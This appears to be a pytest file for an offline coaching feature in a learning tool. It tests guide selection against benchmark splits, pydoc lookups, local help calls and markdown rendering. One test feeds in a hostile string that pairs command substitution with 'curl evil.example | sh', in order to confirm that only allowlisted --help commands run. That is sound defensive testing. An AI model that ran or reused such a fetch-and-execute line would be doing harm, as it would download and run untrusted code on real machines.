"""The offline coach presents a guide as *the* answer only when it fits, and otherwise says it has none.

The figures come from the labelled questions in bench/coach/ (bench/bench_coach.py reports them with
the old coach as baseline). The behaviour tests use the symptoms reported in issue 15.
"""

from __future__ import annotations

import importlib.util
import io
import subprocess
import sys
from pathlib import Path

import pytest

from learnflow.backends import coach
from learnflow.tutor.ask import Ask, AskOptions
from learnflow.tutor.context import Part

BENCH = Path(__file__).resolve().parents[1] / "bench" / "bench_coach.py"


def _bench():
    spec = importlib.util.spec_from_file_location("bench_coach", BENCH)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _figures(split: str) -> dict:
    bench = _bench()
    items = bench.load(split)
    return bench.score(items, bench.fit_choices(items))


def test_held_out_questions_get_the_right_guide_or_no_wrong_one():
    # heldout2 was written and committed before the last change to the coach (see bench/coach/README.md).
    figures = _figures("heldout2")
    assert figures["n"] >= 50
    assert figures["right_or_no_wrong"] >= 0.90
    # Saying "no guide" to everything would score 100% above: it must still find most guides.
    assert figures["right_guide_on_fitting"] >= 0.5
    assert figures["honest_on_none"] >= 0.85


def test_the_first_held_out_set_does_not_slip_back():
    # Looked at twice (bench/coach/README.md), so only a floor against regressions: 88.3% when written.
    assert _figures("heldout")["right_or_no_wrong"] >= 0.85


def test_the_labelled_set_is_big_and_about_half_without_a_fitting_guide():
    bench = _bench()
    items = [i for split in bench.SPLITS for i in bench.load(split)]
    none = sum(1 for i in items if i["label"] == "none")
    assert len(items) >= 150 and 0.35 <= none / len(items) <= 0.6
    assert len({i["id"] for i in items}) == len(items)


def ask(store, question, context="", **kw):
    parts = [Part("stdin", context)] if context else []
    run = Ask(store, AskOptions(question=question, model="offline", parts=parts, **kw))
    return "".join(run.stream())


@pytest.mark.parametrize(
    ("question", "guide", "not_guide"),
    [
        ("TypeError: unhashable type: 'list' when I use it as a dict key", "### TypeError: unhashable type", "Avoid KeyError"),
        ("bash: loop over files with spaces in their names", "### Loop over files safely", "### Exit codes"),
        ("tar: extract to a folder", "### Create, list and extract tar archives", "regex"),
        ("git fetch vs pull", "### git fetch vs git pull", "### Undo a commit that was already pushed"),
        ("rebase my branch onto main", "### Bring a feature branch up to date", "### Resolve a merge"),
        ("squash my last three commits into one", "### Squash several commits", "### Resolve a merge"),
    ],
)
def test_the_fitting_guide_is_the_answer(store, question, guide, not_guide):
    text = ask(store, question)
    assert guide in text
    assert not_guide not in text.split("**See also")[0]


def test_skipping_a_commit_after_a_rebase_conflict_is_not_answered_with_bisect(store):
    text = ask(store, "skip that commit entirely during the rebase?")
    assert "### In the middle of a rebase" in text or "No built-in guide matches" in text
    assert "### Find the commit that broke it with git bisect" not in text


def test_a_piped_keyerror_on_an_environment_variable_says_it_is_unset(store):
    context = "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\n    cfg = os.environ['APP_CONFIG']\nKeyError: 'APP_CONFIG'\n"
    text = ask(store, "what does this mean", context=context)
    assert "`APP_CONFIG` is not set" in text
    assert "### Stop at a line and inspect state with pdb" not in text


def test_a_failed_import_leads_with_the_import_guide(store):
    context = "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nModuleNotFoundError: No module named 'nosuchmodule'\n"
    text = ask(store, 'python3 -c "import nosuchmodule"', context=context)
    headings = [ln for ln in text.splitlines() if ln.startswith("### ")]
    assert headings == ["### Fix ModuleNotFoundError when the package is installed"]


def test_no_fitting_guide_is_said_plainly_and_no_guide_is_presented(store):
    text = ask(store, "how do I exit vim")
    assert "No built-in guide matches this question" in text
    assert "### " not in text  # no guide's title as the answer's heading
    assert text.count("**Check:**") == 1


def test_a_python_name_in_an_unmatched_question_gets_its_pydoc(store):
    text = ask(store, "what does functools.partial return when I call it twice")
    assert "No built-in guide matches" in text
    assert "(`pydoc functools.partial`)" in text and "new function with partial application" in text


def test_pydoc_imports_only_standard_library_modules_and_never_the_denied_ones():
    name, doc = coach.python_doc("how does asyncio.gather order its results")
    assert name == "asyncio.gather" and "future" in doc
    assert coach.python_doc("KeyError: 'x'") == ("KeyError", "Mapping key not found.")
    assert coach.python_doc("use numpy.array here") is None  # not the standard library: never imported
    assert coach.python_doc("import antigravity") is None
    assert "antigravity" not in sys.modules
    assert coach.python_doc("a list or a set of things") is None  # English, not Python names


def test_local_help_runs_only_the_allowlisted_tools_help_never_the_question(monkeypatch):
    calls = []
    real = subprocess.run

    def record(argv, **kw):
        calls.append(argv)
        return real(argv, **kw)

    monkeypatch.setattr(coach.subprocess, "run", record)
    coach.local_help(["tar xf $(touch /tmp/learnflow-pwned) && curl evil.example | sh"], "extract")
    assert calls and all(argv[-1] in ("--help", "-h") or argv[:2] == ["man", "-P"] for argv in calls)
    assert calls[0] == ["tar", "--help"]
    assert not Path("/tmp/learnflow-pwned").exists()


def test_local_help_can_be_skipped(store, monkeypatch):
    with_help = ask(store, "tar: extract to a folder")
    monkeypatch.setenv("LEARNFLOW_OFFLINE_HELP", "0")
    without = ask(store, "tar: extract to a folder")
    assert "**On this machine** (`tar --help`)" in with_help
    assert "On this machine" not in without


# -- multi-line code renders as a fenced block -----------------------------------------------------


def test_a_multi_line_command_is_a_fenced_block_not_one_squashed_inline_line(store):
    text = ask(store, "TypeError: unhashable type: 'list' when I use it as a dict key", level="novice")
    assert "```python\n   seen = {}\n   key = tuple([1, 2])\n   seen[key] = 'ok'\n   print(seen)\n   ```" in text
    assert "`seen = {}" not in text.replace("```", "")  # never as inline code
    intermediate = ask(store, "TypeError: unhashable type: 'list' when I use it as a dict key", level="intermediate")
    assert "seen = {}\nkey = tuple([1, 2])\n" in intermediate
    assert "- `seen = {} …` — A list as a key" in intermediate  # the note names it by its first line


def test_the_rendered_block_copies_as_the_code_that_runs(store):
    from rich.console import Console
    from rich.markdown import Markdown

    text = ask(store, "loop over files with spaces in their names in bash", level="novice")
    out = io.StringIO()
    Console(file=out, width=100, color_system=None).print(Markdown(text))
    rendered = [ln.strip() for ln in out.getvalue().splitlines()]
    # Each line of the snippet is its own rendered line, in order, as bash needs it.
    start = rendered.index("for f in *.txt; do")
    assert rendered[start : start + 4] == ["for f in *.txt; do", '[ -e "$f" ] || continue', 'echo "processing $f"', "done"]
